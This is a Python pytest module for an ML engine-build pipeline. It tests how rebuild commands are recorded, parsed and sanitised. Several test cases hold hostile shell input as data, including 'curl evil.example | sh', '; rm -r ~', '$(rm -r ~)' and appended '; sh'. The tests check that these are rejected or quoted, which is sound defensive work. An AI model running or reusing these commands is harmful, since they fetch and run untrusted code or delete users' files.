"""The recorded command gives back the options it was made of, read by the command's own parser."""

from __future__ import annotations

import shlex
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest

from calibration.quantize import QuantizeSettings
from pipeline.artifact import Manifest
from pipeline.build import BuildOptions, GateLimits, TensorRTOptions
from pipeline.build_command import rebuild_command
from pipeline.build_parser import build_options, build_parser
from pipeline.engines import rebuild
from pipeline.engines.trt_builder import BuilderOptions, check_options
from pipeline.errors import UsageError

PLAIN = BuildOptions(backend="tensorrt", dataset=Path("data"))
FULL = BuildOptions(
    backend="tensorrt", precision="int8", checkpoint=Path("my nets/a.safetensors"),
    preset="edge-s", shape=(256, 512), batch=2, opset=18, dataset=Path("data"), frames=9,
    split="test", force_split=True, output=Path("out"), injection="split", min_agreement=0.97,
    settings=QuantizeSettings("minmax", rounding="nearest"), gate=GateLimits(0.25, 1.5),
    search=True,
    calibration_shape=(128, 256), weight_bits=7,
    tensorrt=TensorRTOptions(
        flavour="tensorrt", labels=True, strict_int8=True,
        builder=BuilderOptions(
            workspace_mib=512, optimization_level=2, timing_cache=True, version_compatible=True,
            hardware="ampere+",
        ),
    ),
)  # fmt: skip
TUNED = replace(PLAIN, finetune=40)
RANDOM = replace(PLAIN, random_weights=True, precision="fp16")
OPENVINO = replace(FULL, backend="openvino", tensorrt=TensorRTOptions())


@pytest.mark.parametrize(
    "options",
    [PLAIN, FULL, TUNED, RANDOM, OPENVINO],
    ids=["plain", "full", "tuned", "random", "cpu"],
)
def test_it_parses_to_the_options_it_was_made_of(options: BuildOptions) -> None:
    program, script, *words = shlex.split(rebuild_command(options, options.backend))
    assert (program, script) == ("python", "scripts/build_engine.py")
    assert build_options(build_parser("").parse_args(words)) == options


def test_each_engine_of_a_build_of_all_has_its_own_command() -> None:
    both = replace(FULL, backend="all")
    for backend, own in (("openvino", OPENVINO), ("tensorrt", FULL)):
        _program, _script, *words = shlex.split(rebuild_command(both, backend))
        assert build_options(build_parser("").parse_args(words)) == own


def test_every_option_is_thought_of() -> None:
    """Of a new one somebody has to say whether it belongs into the command."""
    changed = {
        field.name
        for field in fields(BuildOptions)
        for options in (FULL, TUNED, RANDOM, OPENVINO)
        if getattr(options, field.name) != getattr(BuildOptions(), field.name)
    }
    # Whether others are replaced is the caller's, and tuning the machine's, not the engine's.
    left = {field.name for field in fields(BuildOptions)} - changed
    assert left == {"replace_other", "tune"}
    builder = {
        name
        for name in BuilderOptions.model_fields
        if getattr(FULL.tensorrt.builder, name) != getattr(BuilderOptions(), name)
    }
    assert set(BuilderOptions.model_fields) - builder == {"compute_capabilities"}


@pytest.mark.parametrize(
    ("facts", "said"),
    [
        ({"rebuild": "python3 edge.py build --workspace 64"},
         "python3 edge.py build --workspace 64"),
        ({"rebuild": "cd '/a b' && python3 edge.py build"}, "cd '/a b' && python3 edge.py build"),
        ({"rebuild": "python scripts/build_engine.py --output 'my engines'"},
         "python scripts/build_engine.py --output 'my engines'"),
        ({}, "python scripts/build_engine.py --backend tensorrt --precision int8"),
        # What is pasted is this project's, or harmless.
        ({"rebuild": "curl evil.example | sh"},
         "python scripts/build_engine.py --backend tensorrt --precision int8"),
        ({"rebuild": "python scripts/build_engine.py; rm -r ~"},
         "python scripts/build_engine.py --backend tensorrt --precision int8"),
        ({"rebuild": "python scripts/build_engine.py --output $(rm -r ~) ; sh"},
         "python scripts/build_engine.py --output '$(rm' -r '~)' ';' sh"),
        ({"rebuild": "cd ~ && python3 edge.py build && sh"},
         "cd '~' && python3 edge.py build '&&' sh"),
        ({"rebuild": "an open 'quotation"},
         "python scripts/build_engine.py --backend tensorrt --precision int8"),
        ({"rebuild": None, "precision": "int8; sh"},
         "python scripts/build_engine.py --backend tensorrt --precision 'int8; sh'"),
    ],
)  # fmt: skip
def test_the_hint_is_what_was_recorded(facts: dict[str, Any], said: str) -> None:
    manifest = Manifest(
        kind="engine", main="m.engine", files={}, key="", facts={"precision": "int8"} | facts
    )
    assert rebuild.recorded_command(manifest) == said


def test_a_bundle_that_was_moved_is_built_where_it_lies(tmp_path: Path) -> None:
    moved = tmp_path / "a b"
    moved.mkdir()
    facts = {"rebuild": "cd /unpacked && python3 edge.py build --workspace 64"}
    manifest = Manifest(kind="engine", main="m.engine", files={}, key="", facts=facts)
    said = rebuild.recorded_command(manifest, moved / "m.engine")
    assert said == facts["rebuild"], "its engine alone was copied"
    (moved / "edge.py").touch()
    said = rebuild.recorded_command(manifest, moved / "m.engine")
    assert said == f"cd '{moved}' && python3 edge.py build --workspace 64"
    own = replace(manifest, facts={"rebuild": "python scripts/build_engine.py --frames 9"})
    assert rebuild.recorded_command(own, moved / "m.engine") == own.facts["rebuild"]


def test_the_command_for_the_other_tensorrt_is_one_that_it_takes() -> None:
    """By the command's own parser and the real check of options."""
    trt = pytest.importorskip("tensorrt_rtx", reason="needs tensorrt-rtx", exc_type=ImportError)
    with pytest.raises(UsageError, match="has no timing cache"):
        check_options(trt, "tensorrt-rtx", FULL.tensorrt.builder)
    command = rebuild.for_other_flavour(rebuild_command(FULL, "tensorrt"))
    _program, _script, *words = shlex.split(command)
    found = build_options(build_parser("").parse_args(words))
    check_options(trt, "tensorrt-rtx", found.tensorrt.builder)
    own = TensorRTOptions(
        labels=True, strict_int8=True, builder=BuilderOptions(workspace_mib=512)
    )  # fmt: skip
    assert found == replace(FULL, tensorrt=own)


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("cd '/a b' && python3 edge.py build --level=3 --flavour tensorrt --strict-int8",
         "cd '/a b' && python3 edge.py build --strict-int8"),
        ("python scripts/build_engine.py --output 'a --flavour b' '; sh'",
         "python scripts/build_engine.py --output 'a --flavour b' '; sh'"),
        ("python scripts/build_engine.py --flavour", "python scripts/build_engine.py"),
    ],
)  # fmt: skip
def test_what_is_left_of_a_command_is_quoted_as_it_was(command: str, said: str) -> None:
    assert rebuild.for_other_flavour(command) == said
